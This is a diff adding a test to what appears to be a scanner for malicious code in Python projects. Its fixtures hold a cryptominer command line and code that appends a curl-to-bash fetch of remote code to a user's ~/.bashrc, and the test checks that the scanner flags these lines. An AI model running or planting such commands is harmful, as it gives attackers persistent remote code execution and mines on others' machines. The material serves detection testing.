@@ -477,3 +477,15 @@ def test_a_miner_started_is_critical_downloaded_high_in_docs_or_tests_medium_and
     assert _by_line("cryptominer-started", "tests/test_gpu.py", text) == {5: "medium", 6: "high"}
     doc = "# Mining\n\n```sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u W\n```\n"
     assert _by_line("cryptominer-started", "docs/MINING.md", doc) == {4: "medium"}
+
+
+def test_a_curl_pipe_line_written_through_a_startup_file_handle_is_critical():
+    text = ("import os\n"
+            "LINE = 'curl -s http://203.0.113.5/i | bash &\\n'\n"
+            "def f(x):\n"
+            "    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
+            "        rc.write(LINE)\n"
+            "        rc.write(x)\n"
+            "    with open('/tmp/notes.txt', 'a') as other:\n"
+            "        other.write(LINE)\n")
+    assert _by_line("shell-startup-file-write", "setup.py", text) == {4: "high", 5: "critical"}
